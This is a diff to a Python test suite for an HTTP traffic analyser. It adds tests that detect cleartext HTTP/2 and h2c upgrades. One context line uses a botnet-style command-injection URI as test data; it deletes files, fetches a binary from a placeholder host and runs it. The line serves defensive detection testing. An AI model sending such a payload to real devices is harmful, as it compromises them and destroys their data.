@@ -166,3 +166,66 @@ def test_a_target_with_spaces_warns_each_time():
     conn.data(ORIG, SHELL + SHELL, 1, 1)
     assert [tx.uri for tx in conn._txs] == ["/shell?cd+/tmp;rm+-rf+*;wget+ http://x/arm;sh"] * 2
     assert conn.anomalies.counts == {"HTTP_space_in_target": 2}
+
+
+# -- 3. HTTP/2: prior knowledge and h2c upgrade
+
+H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+H2_SETTINGS = bytes.fromhex("000006040000000000") + bytes.fromhex("000300000064")
+H2_HEADERS = bytes.fromhex("00000d010500000001") + bytes.fromhex("828684418aa0e41d139d09b8f01e07")
+UPGRADE = (b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
+           b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n")
+SWITCHING = b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
+
+
+def _two_way(w: Wire, client: list[bytes], server: list[bytes], at: float = 0.003) -> Wire:
+    """Client and server segments in turn, each acknowledging the other's, then FINs."""
+    c, s, t = 1001, 5001, at
+    for i in range(max(len(client), len(server))):
+        for side, payloads in ((0, client), (1, server)):
+            if i < len(payloads):
+                if side == 0:
+                    w.add(t, C, 40000, S, 80, DATA, seq=c, ack=s, payload=payloads[i])
+                    c += len(payloads[i])
+                else:
+                    w.add(t, S, 80, C, 40000, DATA, seq=s, ack=c, payload=payloads[i])
+                    s += len(payloads[i])
+                t += 0.001
+    return (w.add(t, C, 40000, S, 80, TH_FIN | TH_ACK, seq=c, ack=s)
+             .add(t + 0.001, S, 80, C, 40000, TH_FIN | TH_ACK, seq=s, ack=c + 1))
+
+
+@capture
+def build_h2_prior_knowledge() -> Wire:
+    """Cleartext HTTP/2 with prior knowledge: the client preface, SETTINGS and a HEADERS frame."""
+    return _two_way(handshake(Wire()), [H2_PREFACE + H2_SETTINGS + H2_HEADERS], [H2_SETTINGS])
+
+
+def test_http2_prior_knowledge_is_recognised_not_read_as_http1(tmp_path):
+    """The preface's "PRI * HTTP/2.0" line is no HTTP/1 request: the connection is marked HTTP/2
+    (HTTP2_not_parsed, in the summary's anomalies), no exchange. tshark decodes HTTP/2 (-Y http
+    shows none of it as HTTP/1) and agrees."""
+    txs, anomalies, _ = analysed(build_h2_prior_knowledge(), tmp_path)
+    assert txs == [] and anomalies == {"HTTP2_not_parsed": 1}
+
+
+def test_http2_server_settings_first_is_recognised():
+    conn = HttpConnection(1, AnomalyLog())
+    conn.data(RESP, H2_SETTINGS, 1, 1)
+    conn.data(ORIG, H2_PREFACE, 2, 2)
+    assert conn.protocol == "HTTP/2" and conn.anomalies.counts == {"HTTP2_not_parsed": 1}
+
+
+@capture
+def build_h2c_upgrade() -> Wire:
+    """An HTTP/1.1 request upgraded to h2c: 101, then HTTP/2 frames both ways."""
+    return _two_way(handshake(Wire()), [UPGRADE, H2_PREFACE + H2_SETTINGS],
+                    [SWITCHING + H2_SETTINGS, H2_HEADERS])
+
+
+def test_h2c_upgrade_is_the_one_http1_exchange_then_http2(tmp_path):
+    """The upgrade request and its 101 are HTTP/1 (tshark shows them too); what follows is HTTP/2,
+    not parsed, and said so."""
+    txs, anomalies, _ = analysed(build_h2c_upgrade(), tmp_path)
+    assert txs == [("GET", "/", 101, "tunnel")]
+    assert anomalies == {"HTTP2_not_parsed": 1}
